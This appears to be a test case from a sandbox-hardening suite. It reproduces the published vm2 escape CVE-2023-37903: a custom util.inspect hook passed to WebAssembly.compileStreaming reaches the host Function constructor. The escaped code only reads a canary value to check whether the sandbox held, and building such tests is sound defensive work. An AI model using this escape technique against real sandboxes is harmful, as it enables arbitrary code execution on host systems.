/*---
id: re-inspect-custom-04-compile-streaming
description: "CVE-2023-37903 as published: WebAssembly.compileStreaming formats
  its bad argument with util.inspect, which calls the object's custom inspect
  hook with the host inspect, whose constructor is the host Function."
kind: malicious
category: realm-escape
technique: RE-inspect-custom
variant: plain
references:
  - CVE-2023-37903
  - GHSA-g644-9gfx-q4q4
proven:
  - vm2@3.9.19
expect:
  ultra-secure:
    outcome: contained
    value: held
  high-security:
    outcome: contained
    value: held
  tenant-isolated:
    outcome: contained
    value: held
flags:
  - async
---*/
// CVE-2023-37903: Node formats the bad argument of WebAssembly.compileStreaming with util.inspect, which
// calls the object's custom inspect hook with the host's `inspect`, whose constructor is the host Function.
let verdict = 'held';
const hook = Symbol.for('nodejs.util.inspect.custom');
const bait = {
  [hook]: (depth, options, inspect) => {
    try {
      const token = inspect.constructor('return globalThis.__SANDPROOF_CANARY__')();
      if (typeof token === 'string') verdict = 'ESCAPED:' + token;
    } catch (e) {}
  },
  valueOf: undefined,
  constructor: undefined,
};
if (typeof WebAssembly === 'object' && typeof WebAssembly.compileStreaming === 'function') {
  await WebAssembly.compileStreaming(bait).catch(() => {});
}
for (let i = 0; i < 20; i++) await null;
return verdict;
